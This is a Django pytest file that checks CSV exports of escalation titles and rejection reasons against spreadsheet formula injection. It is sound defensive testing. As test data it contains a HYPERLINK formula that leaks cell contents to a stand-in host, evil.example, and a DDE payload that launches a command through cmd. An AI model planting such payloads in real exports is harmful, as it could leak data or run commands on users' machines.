"""Every CSV export is formula-safe (issue 8: escalation titles and rejection reasons starting
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return were exported raw)."""

import csv
import io

import pytest
from django.urls import reverse

from apps.common.csvexport import FORMULA_STARTS, cell, uncell
from tests.approvals.test_pages import pending_request
from tests.escalations.conftest import raise_one

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted_and_reads_back(start):
    value = f"{start}1+1"
    assert cell(value) == f"'{value}"
    assert uncell(cell(value)) == value
    assert cell("Plain title") == "Plain title" and cell(None) == "" and cell(42) == "42"


def test_the_escalation_export_quotes_a_formula_title(client, world):
    esc = raise_one(world, fields={"title": HOSTILE})
    client.force_login(world.eng_manager)
    rows = rows_of(client.get(reverse("escalations:list"), {"export": "csv"}))
    [row] = [r for r in rows if r[0] == esc.reference]
    assert row[1] == "'" + HOSTILE
    assert not any(c.startswith(FORMULA_STARTS) for r in rows for c in r)


def test_the_decision_log_export_quotes_a_formula_reason(client, org):
    ask = pending_request(org)
    client.force_login(org.lead)
    reason = "+cmd|' /C calc'!A0 and level 2 can still fix it"
    response = client.post(
        reverse("approvals:decide", args=[ask.pk]),
        {"version": ask.version, "decision": "reject", "reason": reason},
    )
    assert response.status_code == 302
    client.force_login(org.auditor)
    rows = rows_of(client.get(reverse("approvals:log"), {"export": "csv"}))
    assert rows[1][rows[0].index("reason")] == "'" + reason
    assert not any(c.startswith(FORMULA_STARTS) for r in rows for c in r)


def test_an_export_with_a_filter_that_does_not_parse_is_a_400_not_everything(client, world):
    raise_one(world)
    client.force_login(world.eng_manager)
    response = client.get(reverse("escalations:list"), {"export": "csv", "severity": "bogus"})
    assert response.status_code == 400 and "severity" in response.content.decode()
